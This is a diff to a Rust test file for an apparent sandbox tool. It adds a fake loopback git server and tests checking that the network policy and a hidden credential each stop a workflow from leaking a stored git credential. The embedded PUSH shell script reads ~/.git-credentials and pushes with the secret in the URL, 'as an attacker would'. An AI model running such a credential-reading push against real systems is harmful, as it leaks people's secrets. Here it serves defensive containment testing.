@@ -360,3 +360,125 @@ fn a_run_that_fills_its_own_space_ends_at_its_disk_limit_charged_with_the_figure
     let after = std::fs::read(root.join(".harnery/work/fill/events.jsonl")).unwrap();
     assert_eq!(before, after, "bad input wrote to the item's history");
 }
+
+/// A git server on loopback that answers every request `401` and remembers what each one
+/// carried, so a push with a stored credential shows whether the credential was sent.
+struct GitServer {
+    port: u16,
+    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
+}
+
+impl GitServer {
+    fn start() -> GitServer {
+        use std::io::{Read, Write};
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let kept = seen.clone();
+        std::thread::spawn(move || {
+            for conn in listener.incoming() {
+                let Ok(mut conn) = conn else { return };
+                let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(5)));
+                let mut buf = vec![0u8; 8192];
+                let n = conn.read(&mut buf).unwrap_or(0);
+                kept.lock().unwrap().push(String::from_utf8_lossy(&buf[..n]).into_owned());
+                let reply =
+                    "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"git\"\r\n\
+                             Content-Length: 0\r\nConnection: close\r\n\r\n";
+                let _ = conn.write_all(reply.as_bytes());
+            }
+        });
+        GitServer { port, seen }
+    }
+
+    fn requests(&self) -> Vec<String> {
+        self.seen.lock().unwrap().clone()
+    }
+}
+
+/// Pushes its branch and a tag to the team's repository with the person's stored credential
+/// when it can read it (in the URL, as an attacker would), else as git would by itself.
+const PUSH: &str = r#"#!/bin/sh
+read -r start
+stored=$(head -n 1 "$HOME/.git-credentials" 2>/dev/null)
+url="${stored:-http://127.0.0.1}:$GIT_PORT/team.git"
+git push "$url" HEAD:refs/heads/main HEAD:refs/tags/v1.0 >/dev/null 2>&1
+echo "{\"op\":\"result\",\"ok\":true,\"summary\":\"push exited $?\"}"
+"#;
+
+#[test]
+fn a_push_to_the_teams_repository_is_stopped_by_the_network_policy_and_by_the_missing_credential_each_alone(
+) {
+    if harn::work::confine::offer().namespace.is_err() {
+        crate::skip::skip("this machine gives runs no namespace");
+        return;
+    }
+    let repo = Repo::new();
+    let root = repo.root();
+    let home = repo.dir.path().join("home");
+    std::fs::create_dir_all(&home).unwrap();
+    std::fs::write(home.join(".git-credentials"), "http://ana:SECRET1@127.0.0.1\n").unwrap();
+    std::fs::write(home.join(".gitconfig"), "[credential]\n\thelper = store\n").unwrap();
+    with_workflow(&repo, "push.sh", PUSH);
+    let server = GitServer::start();
+    let port = server.port.to_string();
+    let run = |id: &str, extra: &[&str]| {
+        create(&repo, id, "push.sh");
+        let args = [&RUN[..2], &[id][..], &RUN[2..], extra, &["--json"][..]].concat();
+        let out =
+            repo.command(&args, "").env("HOME", &home).env("GIT_PORT", &port).output().unwrap();
+        assert_eq!(out.status.code(), Some(0), "{id}: {}", text(&out));
+        json(&out)
+    };
+    // The network policy alone: the credential is the run's (its path is writable), but the
+    // default policy reaches only the run's adapters' vendors.
+    let reveal = serde_json::json!({"containment": {"writable": [repo.barrier.path(), home.join(".git-credentials")]}});
+    std::fs::write(root.join(".harnery/config.json"), reveal.to_string()).unwrap();
+    let doc = run("policy", &[]);
+    assert!(server.requests().is_empty(), "the push reached the server: {:?}", server.requests());
+    let id = doc["proof"]["run"]["id"].as_str().unwrap();
+    let shown = json(&repo.harn(&["run", "show", id, "--json"], ""));
+    let refused = shown["network_refused"].as_array().unwrap();
+    assert!(
+        refused.iter().any(|r| r["port"] == server.port && r["host"] == "127.0.0.1"),
+        "{shown}"
+    );
+    let said = text(&repo.harn(&["run", "show", id], ""));
+    assert!(said.contains("network    none") || said.contains("network    only"), "{said}");
+    assert!(said.contains(&format!("refused    127.0.0.1:{port}")), "{said}");
+    // The missing credential alone: the network is open, the credential hidden.
+    let hide = serde_json::json!({"containment": {"writable": [repo.barrier.path()]}});
+    std::fs::write(root.join(".harnery/config.json"), hide.to_string()).unwrap();
+    run("credential", &["--network", "open"]);
+    let requests = server.requests();
+    assert!(!requests.is_empty(), "the open network reached no server");
+    assert!(
+        requests.iter().all(|r| !r.to_ascii_lowercase().contains("authorization")),
+        "{requests:?}"
+    );
+    // Both open, as before: the credential goes out (the test's server is where the harm
+    // would be).
+    std::fs::write(root.join(".harnery/config.json"), reveal.to_string()).unwrap();
+    run("both", &["--network", "open"]);
+    assert!(server.requests().iter().any(|r| r.to_ascii_lowercase().contains("authorization")));
+}
+
+#[test]
+fn a_network_policy_that_does_not_parse_is_bad_input_and_writes_nothing() {
+    let repo = Repo::new();
+    let root = repo.root();
+    with_workflow(&repo, "push.sh", PUSH);
+    create(&repo, "n", "push.sh");
+    let events = root.join(".harnery/work/n/events.jsonl");
+    let before = std::fs::read(&events).unwrap();
+    let out = repo.harn(&["work", "run", "n", "--network", "pypi.org"], "");
+    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
+    assert!(text(&out).contains("--network[0]"), "{}", text(&out));
+    let config = serde_json::json!({"network": ["pypi.org:443", "pypi.org:https"]});
+    std::fs::write(root.join(".harnery/config.json"), config.to_string()).unwrap();
+    let out = repo.harn(&["work", "run", "n"], "");
+    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
+    let said = text(&out);
+    assert!(said.contains("config.json") && said.contains("network[1]"), "{said}");
+    assert_eq!(std::fs::read(&events).unwrap(), before, "bad input wrote to the item's history");
+}
